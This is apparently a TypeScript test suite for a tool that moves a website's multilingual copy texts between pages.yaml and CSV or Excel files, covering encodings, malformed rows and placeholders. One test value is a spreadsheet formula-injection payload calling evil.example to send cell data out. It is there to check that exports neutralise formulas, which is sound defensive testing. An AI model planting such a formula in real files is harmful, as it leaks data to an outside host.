import { execFile } from 'node:child_process';
import { mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join, resolve } from 'node:path';
import { promisify } from 'node:util';
import { parse as parseCsv } from 'csv-parse/sync';
import { readSheet } from 'read-excel-file/node';
import { parse } from 'yaml';
import { describe, expect, it } from 'vitest';
import { checkFile } from '../../tools/check/runCheck.ts';
import { exportCopyFile, importCopyFile } from '../../tools/copy/copyFile.ts';
import { copyTable } from '../../tools/copy/copyTable.ts';
import { copyTextsOf } from '../../tools/copy/copyTexts.ts';
import { editCopyTexts } from '../../tools/copy/editCopyTexts.ts';
import { readCsv, writeCsv } from '../../tools/copy/csvSheet.ts';
import { CopyImportError } from '../../tools/copy/sheet.ts';
import { writeXlsx } from '../../tools/copy/xlsxSheet.ts';

const ROOT = resolve(import.meta.dirname, '../..');
const FIXTURES = join(import.meta.dirname, 'fixtures');
const PAGES = readFileSync(join(ROOT, 'pages.yaml'), 'utf8');
const table = copyTable(PAGES);
const exported = Buffer.from(await exportCopyFile(PAGES, 'csv'));
const rowOf = (key: string) => table.findIndex((cells) => cells[0] === key) + 1;

/** The table with one cell replaced (row of `key`, column of `pack`). */
function withCell(key: string, pack: string, value: string, rows = table): string[][] {
  const copy = rows.map((cells) => [...cells]);
  copy[rowOf(key) - 1]![copy[0]!.indexOf(pack)] = value;
  return copy;
}

const csv = (rows: string[][]) => writeCsv(rows);
const utf8 = (text: string) => Buffer.from(text);

/** The refusal of an import, as `row: message` lines (`file: message` for the whole file); fails if it went through. */
async function refusal(bytes: Uint8Array): Promise<string[]> {
  try {
    await importCopyFile(PAGES, bytes);
  } catch (error) {
    if (error instanceof CopyImportError) return error.problems.map((p) => `${p.row ?? 'file'}: ${p.message}`);
    throw error;
  }
  throw new Error('the import was not refused');
}

/** The lines that differ between two texts of the same line count. */
function changedLines(before: string, after: string): string[] {
  const a = before.split('\n');
  const b = after.split('\n');
  expect(b.length).toBe(a.length);
  return b.filter((line, i) => line !== a[i]);
}

describe('export', () => {
  it('has the header key and the packs in pages.yaml order, and one row per copy key as screens name it', () => {
    expect(table[0]).toEqual(['key', 'es', 'en', 'zh']);
    const keys = table.slice(1).map((r) => r[0]);
    expect(new Set(keys).size).toBe(keys.length);
    const data = parse(PAGES) as { languages: { packs: { es: { texts: Record<string, Record<string, string>> } } } };
    const esKeys = Object.entries(data.languages.packs.es.texts).flatMap(([g, t]) => Object.keys(t).map((k) => `${g}.${k}`));
    expect(keys).toEqual(esKeys);
    expect(table[rowOf('complaint.emptyText') - 1]).toEqual([
      'complaint.emptyText',
      'Por favor, escribe tus opiniones y sugerencias.',
      'Please provide your opinions and suggestions.',
      '',
    ]);
    // zh (a pack that falls back to es) has its own texts only.
    expect(table[rowOf('promo.phoneInvalid') - 1]![3]).toBe('请正确输入手机号');
  });

  it('writes CSV that Excel opens as UTF-8: a byte order mark, CRLF, cells quoted where they need it', () => {
    expect([...exported.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
    const text = exported.subarray(3).toString('utf8');
    expect(text.startsWith('key,es,en,zh\r\n')).toBe(true);
    expect(text).toContain(
      '\r\ncomplaint.emptyText,"Por favor, escribe tus opiniones y sugerencias.",Please provide your opinions and suggestions.,\r\n',
    );
    expect(readCsv(exported).rows.map((r) => r.cells)).toEqual(table);
  });

  it('writes a workbook whose first sheet holds the same rows, every cell as text', async () => {
    const workbook = await exportCopyFile(PAGES, 'xlsx');
    const rows = await readSheet(Buffer.from(workbook), { trim: false, parseNumber: (n) => `number ${n}` });
    expect(rows.map((cells) => cells.map((c) => c ?? ''))).toEqual(table);
  });
});

describe('import', () => {
  it('of an unchanged export, CSV or workbook, leaves pages.yaml byte for byte the same', async () => {
    expect(await importCopyFile(PAGES, exported)).toEqual({ text: PAGES, changes: [] });
    expect((await importCopyFile(PAGES, await exportCopyFile(PAGES, 'xlsx'))).text).toBe(PAGES);
  });

  it('of an export as spreadsheets save it (no BOM, LF, every cell quoted; UTF-16 with tabs) changes nothing either', async () => {
    const quoted = table.map((r) => r.map((c) => `"${c.replaceAll('"', '""')}"`).join(',')).join('\n');
    expect((await importCopyFile(PAGES, utf8(`${quoted}\n`))).text).toBe(PAGES);
    const unicodeText = Buffer.concat([
      Buffer.from([0xff, 0xfe]),
      Buffer.from(
        table.map((r) => r.map((c) => (c.includes('"') ? `"${c.replaceAll('"', '""')}"` : c)).join('\t')).join('\r\n'),
        'utf16le',
      ),
    ]);
    expect((await importCopyFile(PAGES, unicodeText)).text).toBe(PAGES);
  });

  it('of an edited cell changes that one value, keeping comments and quoting', async () => {
    const { text, changes } = await importCopyFile(
      PAGES,
      csv(withCell('complaint.emptyText', 'en', 'Tell us, in a few words, what went wrong.')),
    );
    expect(changes).toEqual([
      {
        key: 'complaint.emptyText',
        pack: 'en',
        value: 'Tell us, in a few words, what went wrong.',
        row: rowOf('complaint.emptyText'),
        before: 'Please provide your opinions and suggestions.',
      },
    ]);
    expect(changedLines(PAGES, text)).toEqual(['          emptyText: Tell us, in a few words, what went wrong.']);
    const quoted = (await importCopyFile(PAGES, csv(withCell('promo.phonePlaceholder', 'en', 'Mobile number, {0} digits')))).text;
    expect(changedLines(PAGES, quoted)).toEqual(['          phonePlaceholder: "Mobile number, {0} digits"']);
    expect(checkFile(join(ROOT, 'pages.yaml'), quoted).problems).toEqual([]);
  });

  it('of a workbook with an edited cell changes exactly that line, as the CSV does', async () => {
    const edited = withCell('site.navHome', 'en', 'Start');
    const fromWorkbook = await importCopyFile(PAGES, await writeXlsx(edited));
    expect(changedLines(PAGES, fromWorkbook.text)).toEqual(['          navHome: Start']);
    expect(fromWorkbook).toEqual(await importCopyFile(PAGES, csv(edited)));
  });

  it('of a workbook another spreadsheet wrote (LibreOffice Calc), with one cell edited', async () => {
    const { text, changes } = await importCopyFile(PAGES, readFileSync(join(FIXTURES, 'libreoffice.xlsx')));
    expect(changes).toMatchObject([{ key: 'contact.phonePlaceholder', pack: 'es', value: 'Tu número de teléfono móvil', row: 3 }]);
    expect(changedLines(PAGES, text)).toEqual(['          phonePlaceholder: Tu número de teléfono móvil']);
  });

  it('of a text a partial pack did not have adds it to that pack only', async () => {
    const { text } = await importCopyFile(PAGES, csv(withCell('complaint.emptyText', 'zh', '请写下您的意见和建议。')));
    const data = parse(text) as { languages: { packs: Record<string, { texts: Record<string, Record<string, string>> }> } };
    expect(data.languages.packs.zh!.texts.complaint).toEqual({ emptyText: '请写下您的意见和建议。' });
    expect(text.replace('        complaint:\n          emptyText: 请写下您的意见和建议。\n', '')).toBe(PAGES);
    expect(checkFile(join(ROOT, 'pages.yaml'), text).problems).toEqual([]);
  });

  it('reads a row without its trailing empty cells as empty cells, and a row of only some keys', async () => {
    const rows = [
      'key,es,en,zh',
      'complaint.emptyText,"Por favor, cuéntanos qué pasó.",Please provide your opinions and suggestions.',
      'site.navHome,Inicio,Home',
    ];
    const { text, changes } = await importCopyFile(PAGES, utf8(rows.join('\r\n')));
    expect(changes).toMatchObject([{ key: 'complaint.emptyText', pack: 'es', row: 2 }]);
    expect(changedLines(PAGES, text)).toEqual(['          emptyText: Por favor, cuéntanos qué pasó.']);
  });

  it('understands semicolons, as a Spanish-locale Excel separates cells', async () => {
    const rows = [
      'key;es;en;zh',
      'site.navHome;Inicio;Start;',
      '"complaint.emptyText";"Por favor; escribe";"Please provide your opinions and suggestions.";',
    ];
    const { text } = await importCopyFile(PAGES, utf8(`\uFEFF${rows.join('\r\n')}\r\n`));
    expect(changedLines(PAGES, text).sort()).toEqual(['          emptyText: Por favor; escribe', '          navHome: Start']);
  });

  it('numbers rows as the spreadsheet shows them: a cell with line breaks is one row, an empty line an empty row', async () => {
    expect(await refusal(utf8('key,es,en,zh\r\ncomplaint.emptyText,"Uno\r\ndos",Two,\r\n\r\ncomplaint.nope,a,b,\r\n'))).toEqual([
      '4: pages.yaml has no copy text complaint.nope',
    ]);
  });
});

describe('files as Excel and LibreOffice save them in a legacy encoding (tests/copy/fixtures)', () => {
  const fixture = (name: string) => readFileSync(join(FIXTURES, name));
  const lost = (shown: string) =>
    `5: the zh text of promo.phoneInvalid would become "${shown}" where pages.yaml has "请正确输入手机号": this file is saved as Windows-1252, which has no place for characters such as "请"`;

  it.each([
    ['excel-1252-comma.csv', '????????'],
    ['excel-1252-semicolon.csv', '????????'],
    ['libreoffice-1252-semicolon.csv', '÷cn\u201CeK:÷'],
  ])('%s is refused: the Chinese text would be lost; the file says how to save as CSV UTF-8', async (name, shown) => {
    const problems = await refusal(fixture(name));
    expect(problems).toEqual([
      expect.stringMatching(/^file: this file is not saved as UTF-8 .*Save it as "CSV UTF-8 \(Comma delimited\)"/),
      lost(shown),
    ]);
  });

  it('saved by Excel for Mac as "CSV (Macintosh)" (Mac Roman, CR line ends) is refused: its accents would come out wrong', async () => {
    const problems = await refusal(fixture('excel-macintosh.csv'));
    expect(problems[0]).toMatch(/^file: this file is not saved as UTF-8/);
    const misread =
      'its accented letters came out as other characters, so this file is saved in another encoding than Windows-1252 or UTF-8';
    expect(problems.slice(1)).toEqual([
      `2: the es text of site.tagline would become "PrŽstamos r‡pidos y claros, desde tu celular." where pages.yaml has "Préstamos rápidos y claros, desde tu celular.": ${misread}`,
      `3: the es text of contact.phonePlaceholder would become "Tu nœmero de telŽfono m—vil" where pages.yaml has "Tu número de teléfono": ${misread}`,
      `4: the es text of complaint.emptyText would become "CuŽntanos ÒquŽ pas—ÓÉ por favor." where pages.yaml has "Por favor, escribe tus opiniones y sugerencias.": ${misread}`,
    ]);
  });

  it('with only characters Windows-1252 holds, is imported with every character right (accents, “quotes”, …)', async () => {
    const { text, changes, encoding } = await importCopyFile(PAGES, fixture('excel-1252-accents.csv'));
    expect(encoding).toBe('Windows-1252');
    expect(changedLines(PAGES, text)).toEqual([
      '          phonePlaceholder: Tu número de teléfono móvil',
      '          emptyText: Cuéntanos “qué pasó”… por favor.',
    ]);
    expect(changes).toMatchObject([
      { key: 'contact.phonePlaceholder', pack: 'es', row: 3 },
      { key: 'complaint.emptyText', pack: 'es', row: 4 },
    ]);
  });
});

describe('texts a spreadsheet would run as a formula or read as a number or a boolean', () => {
  const risky: [key: string, text: string][] = [
    ['site.navHome', '=HYPERLINK("http://evil.example/?"&A1,"Home")'],
    ['site.tagline', '+1 555 0100'],
    ['complaint.emptyText', '-5% this week'],
    ['contact.submit', '@support'],
    ['contact.phonePlaceholder', '\tTab first'],
    ['promo.phoneInvalid', "'=already quoted"],
  ];
  const pages = editCopyTexts(
    PAGES,
    risky.map(([key, value]) => ({ key, pack: 'en', value })),
  );
  const texts = (text: string) => copyTextsOf(text).texts;

  it('CSV export puts an apostrophe before every cell that starts like a formula, and import takes it off', async () => {
    const file = Buffer.from(await exportCopyFile(pages, 'csv'));
    const cells = (parseCsv(file.subarray(3).toString('utf8')) as string[][]).flat();
    expect(cells.filter((cell) => /^[=+\-@\t\r]/.test(cell))).toEqual([]);
    for (const [, text] of risky) expect(cells).toContain(`'${text}`);
    expect((await importCopyFile(pages, file)).text).toBe(pages);
  });

  it.each(['csv', 'xlsx'] as const)(
    '%s: 123, true and =1+1 come back as the texts they are, and can be written as texts',
    async (format) => {
      const edited = editCopyTexts(PAGES, [
        { key: 'site.navHome', pack: 'en', value: '123' },
        { key: 'site.tagline', pack: 'en', value: 'true' },
        { key: 'contact.submit', pack: 'en', value: '=1+1' },
      ]);
      expect((await importCopyFile(edited, await exportCopyFile(edited, format))).text).toBe(edited);
      const rows = copyTable(PAGES);
      const file = (rows: string[][]) => (format === 'csv' ? csv(rows) : writeXlsx(rows));
      const changed = withCell(
        'site.navHome',
        'en',
        '123',
        withCell('site.tagline', 'en', 'true', withCell('contact.submit', 'en', '=1+1', rows)),
      );
      const { text, changes } = await importCopyFile(PAGES, await file(changed));
      expect(changes.map((c) => [c.row, c.key, c.value]).sort((x, y) => Number(x[0]) - Number(y[0]))).toEqual(
        (
          [
            [rowOf('site.navHome'), 'site.navHome', '123'],
            [rowOf('site.tagline'), 'site.tagline', 'true'],
            [rowOf('contact.submit'), 'contact.submit', '=1+1'],
          ] as const
        ).toSorted((x, y) => x[0] - y[0]),
      );
      expect(texts(text)).toEqual({
        ...texts(PAGES),
        en: { ...texts(PAGES).en, 'site.navHome': '123', 'site.tagline': 'true', 'contact.submit': '=1+1' },
      });
    },
  );
});

describe('a text never becomes worse than it was', () => {
  it('refuses a "�" where a character was lost, and "?" standing in for characters, in a UTF-8 file too', async () => {
    expect(await refusal(csv(withCell('site.tagline', 'es', 'Pr\uFFFDstamos r\uFFFDpidos y claros, desde tu celular.')))).toEqual([
      `${rowOf('site.tagline')}: the es text of site.tagline would become "Pr\uFFFDstamos r\uFFFDpidos y claros, desde tu celular." where pages.yaml has "Préstamos rápidos y claros, desde tu celular.": "\uFFFD" marks a character that was lost on the way, as when a file is saved in another encoding than UTF-8`,
    ]);
    expect(await refusal(csv(withCell('promo.phoneInvalid', 'zh', '????????')))).toEqual([
      `${rowOf('promo.phoneInvalid')}: the zh text of promo.phoneInvalid would become "????????" where pages.yaml has "请正确输入手机号": a "?" stands where a character was, as a spreadsheet writes for each character its file format has no place for`,
    ]);
    expect((await refusal(csv(withCell('site.tagline', 'es', 'Pr?stamos r?pidos y claros, desde tu celular.'))))[0]).toContain(
      'a "?" stands where a character was',
    );
  });

  it('still takes a question a translator wrote', async () => {
    const { text } = await importCopyFile(PAGES, csv(withCell('complaint.emptyText', 'es', '¿Qué pasó? Cuéntanos, por favor.')));
    expect(changedLines(PAGES, text)).toEqual(['          emptyText: ¿Qué pasó? Cuéntanos, por favor.']);
  });

  it('refuses a placeholder dropped in every language at once', async () => {
    const both = withCell('promo.phonePlaceholder', 'en', 'Mobile number', withCell('promo.phonePlaceholder', 'es', 'Celular'));
    const row = rowOf('promo.phonePlaceholder');
    expect(await refusal(csv(both))).toEqual([
      `${row}: the es text of promo.phonePlaceholder has no {0}, which its text in pages.yaml has; the page puts a number or a name in place of each one, so keep the same ones`,
      `${row}: the en text of promo.phonePlaceholder has no {0}, which its text in pages.yaml has; the page puts a number or a name in place of each one, so keep the same ones`,
    ]);
  });
});

describe('import refuses, naming every mistake of the file at its row, and writes nothing', () => {
  it('a key that does not exist', async () => {
    const rows = withCell('complaint.emptyText', 'key', 'complaint.emptyTxt');
    expect(await refusal(csv(rows))).toEqual([
      `${rowOf('complaint.emptyText')}: pages.yaml has no copy text complaint.emptyTxt; did you mean complaint.emptyText?`,
    ]);
  });

  it('a missing column, an unknown one, a column twice, together with the rows', async () => {
    expect(await refusal(csv(table.map((r) => r.slice(0, 3))))).toEqual([
      '1: there is no column zh; the first row must be key, es, en, zh',
    ]);
    const header = (names: string[], rows = table) => [names, ...rows.slice(1)];
    expect(await refusal(csv(header(['key', 'es', 'en', 'fr'])))).toEqual([
      '1: column "fr" is not a language of pages.yaml (es, en, zh); there is no column zh; the first row must be key, es, en, zh',
    ]);
    expect(await refusal(csv(header(['key', 'es', 'es', 'zh'])))).toEqual([
      '1: column es is there twice; there is no column en; the first row must be key, es, en, zh',
    ]);
    const both = header(['clave', 'es', 'en', 'zh'], withCell('site.navHome', 'key', 'site.navHom'));
    expect(await refusal(csv(both))).toEqual([
      '1: the first column must be key, not "clave"; the first row must be key, es, en, zh',
      `${rowOf('site.navHome')}: pages.yaml has no copy text site.navHom; did you mean site.navHome?`,
    ]);
    expect(await refusal(utf8(''))).toEqual(['1: the file is empty; its first row must be key, es, en, zh']);
  });

  it('malformed rows: a text past the last column, a stray quote, a quote never closed', async () => {
    const at = rowOf('site.navHome');
    const text = exported.toString('utf8');
    const edit = (from: string, to: string) => utf8(text.replace(from, to));
    expect(await refusal(edit('\r\nsite.navHome,Inicio,Home,\r\n', '\r\nsite.navHome,Inicio, sweet,Home,\r\n'))).toEqual([
      `${at}: this row has 5 cells and the first row 4; a text with a comma, a quote or a line break must be in quotes`,
    ]);
    const after = '. The rows after it could not be read';
    expect(await refusal(edit('\r\nsite.navHome,Inicio,Home,', '\r\nsite.navHome,Ini"cio,Home,'))).toEqual([
      `${at}: a quote inside a cell that does not start with one; quote the whole cell and write the quote twice ("")${after}`,
    ]);
    expect(await refusal(edit('\r\nsite.navHome,Inicio,Home,', '\r\nsite.navHome,"Inicio"x,Home,'))).toEqual([
      `${at}: text after the closing quote of a cell; a quote inside a quoted cell is written twice ("")${after}`,
    ]);
    expect(await refusal(edit('\r\nsite.navHome,Inicio,Home,', '\r\nsite.navHome,"Inicio,Home,'))).toEqual([
      `${at}: a cell that starts with a quote runs on into the rows below, where text follows its closing quote; is a closing " missing?${after}`,
    ]);
    expect(await refusal(utf8(`${text}site.navHome,"Inicio,Home,\r\n`))).toEqual([
      `${table.length + 1}: a quoted cell is never closed; close it with "${after}`,
    ]);
  });

  it('a text that breaks a {0} placeholder of the other languages', async () => {
    expect(await refusal(csv(withCell('promo.phonePlaceholder', 'en', 'Your mobile number')))).toEqual([
      `${rowOf('promo.phonePlaceholder')}: the en text of promo.phonePlaceholder has no {0}, which the es text has; the page puts a number or a name in place of each one, so keep the same ones`,
    ]);
    expect(await refusal(csv(withCell('site.navHome', 'es', 'Inicio {0}')))).toEqual([
      `${rowOf('site.navHome')}: the es text of site.navHome has {0}, which the en text does not; the page puts a number or a name in place of each one, so keep the same ones`,
    ]);
  });

  it('a key twice, and an emptied text; every mistake of the file at once', async () => {
    const twice = [...table, table[rowOf('site.navHome') - 1]!];
    expect(await refusal(csv(twice))).toEqual([
      `${table.length + 1}: site.navHome is already on row ${rowOf('site.navHome')}; keep one row per key`,
    ]);
    const both = withCell('complaint.emptyText', 'key', 'complaint.emptyTxt', withCell('site.navHome', 'en', ''));
    expect(await refusal(csv(both))).toEqual([
      `${rowOf('site.navHome')}: the en text of site.navHome is empty here but pages.yaml has "Home"; to remove a text, delete it in pages.yaml`,
      `${rowOf('complaint.emptyText')}: pages.yaml has no copy text complaint.emptyTxt; did you mean complaint.emptyText?`,
    ]);
  });

  it('the same refusals at the same rows from a workbook as from the CSV', async () => {
    const broken = withCell('complaint.emptyText', 'key', 'complaint.emptyTxt', withCell('promo.phoneInvalid', 'zh', '????????'));
    const rows = [['clave', 'es', 'en', 'zh'], ...broken.slice(1)];
    const fromCsv = await refusal(csv(rows));
    expect(fromCsv).toHaveLength(3);
    expect(await refusal(await writeXlsx(rows))).toEqual(fromCsv);
  });
});

describe('npm run copy', () => {
  const run = promisify(execFile);
  const tsx = join(ROOT, 'node_modules/.bin/tsx');
  const dir = mkdtempSync(join(tmpdir(), 'copy-cli-'));
  const pages = join(dir, 'pages.yaml');
  const copy = (...args: string[]) => run(tsx, ['tools/scripts/copy.ts', ...args, '--pages', pages], { cwd: ROOT });

  it('exports CSV and xlsx, refuses a bad file with its row and writes nothing, imports a good one', { timeout: 60_000 }, async () => {
    writeFileSync(pages, PAGES);
    const file = join(dir, 'texts.csv');
    await copy('export', file);
    expect(readFileSync(file)).toEqual(exported);
    await copy('export', join(dir, 'texts.xlsx'));
    expect((await importCopyFile(PAGES, readFileSync(join(dir, 'texts.xlsx')))).text).toBe(PAGES);

    writeFileSync(file, csv(withCell('complaint.emptyText', 'key', 'complaint.emptyTxt')));
    const failed = await copy('import', file).catch((e) => e);
    expect(failed.code).toBe(1);
    expect(failed.stderr).toContain(`${file}, row ${rowOf('complaint.emptyText')}: pages.yaml has no copy text complaint.emptyTxt`);
    expect(failed.stderr).toContain('was not changed');
    expect(readFileSync(pages, 'utf8')).toBe(PAGES);

    writeFileSync(file, csv(withCell('complaint.emptyText', 'en', 'Please tell us what happened.')));
    const { stdout } = await copy('import', file);
    expect(stdout).toContain('1 text changed');
    expect(changedLines(PAGES, readFileSync(pages, 'utf8'))).toEqual(['          emptyText: Please tell us what happened.']);
  });

  it.each(['excel-1252-comma.csv', 'excel-1252-semicolon.csv'])(
    'refuses %s as Excel saved it, and pages.yaml stays byte for byte',
    { timeout: 60_000 },
    async (name) => {
      writeFileSync(pages, PAGES);
      const failed = await copy('import', join(FIXTURES, name)).catch((e) => e);
      expect(failed.code).toBe(1);
      expect(failed.stderr).toContain(`${name}, row 5: the zh text of promo.phoneInvalid would become "????????"`);
      expect(failed.stderr).toContain('Save it as "CSV UTF-8 (Comma delimited)"');
      expect(readFileSync(pages)).toEqual(Buffer.from(PAGES));
    },
  );
});
